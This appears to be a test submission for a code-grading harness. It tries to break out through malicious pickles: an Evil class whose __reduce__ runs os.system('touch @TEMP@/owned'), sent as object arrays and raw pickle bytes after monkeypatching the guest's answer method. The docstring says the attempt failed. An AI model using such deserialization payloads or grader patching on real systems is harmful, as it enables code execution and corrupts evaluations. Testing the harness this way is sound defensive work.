"""Answers with pickles: an object array, a record array, bytes of npy with objects, __reduce__.

tries: malicious pickles
stock: does not apply
outcome: failed, error in your code
"""

# %% 99-weigh
import io
import pickle

from pawmark.grading.inside import guest
from pawmark.grading.boundary import wire


class Evil:
    def __reduce__(self):
        return (__import__("os").system, ("touch @TEMP@/owned",))


buffer = io.BytesIO()
np.save(buffer, np.array([Evil()] * 9, dtype=object), allow_pickle=True)
ordinary = guest.Guest.answer
turn = []


def answer(self, message):
    if "weigh" not in str(message.tree):
        return ordinary(self, message)
    turn.append(1)
    blobs = (buffer.getvalue(), pickle.dumps(Evil()))
    tree = {"$": "dict", "v": [["status", "ok"], ["value", {"$": "array", "b": len(turn) % 2}]]}
    return wire.Message(tree, blobs)


guest.Guest.answer = answer


def weigh(values):
    return np.array([Evil()] * 9, dtype=object)
